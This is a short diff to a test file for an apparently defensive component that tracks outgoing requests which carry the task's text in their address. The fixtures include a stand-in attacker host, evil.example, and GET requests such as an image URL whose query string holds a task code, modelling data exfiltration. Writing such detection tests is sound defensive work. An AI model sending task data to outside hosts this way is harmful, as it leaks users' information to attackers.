@@ -365,7 +365,7 @@ describe('an action holds', () => {
   it('what scripts read elsewhere with a text of the task in its address, and nothing else that they read', async () => {
     const { hold, armed, answers, report } = holding();
     await hold.begin(7, { foreignTexts: ['Code RC-1A2B', 'See https://evil.example/pic?d=7'] });
-    expect(armed[0]).toBe('7 {"armed":true,"reads":true}');
+    expect(armed[0]).toBe('7 {"armed":true,"reads":true,"texts":["code rc-1a2b","see https://evil.example/pic?d=7"]}');
     const get = (write: string, to: string) => report({ method: 'GET', url: to, write });
     get('text', 'https://evil.example/p.gif?q=Code+RC-1A2B');
     get('link', 'https://evil.example/pic?d=7');
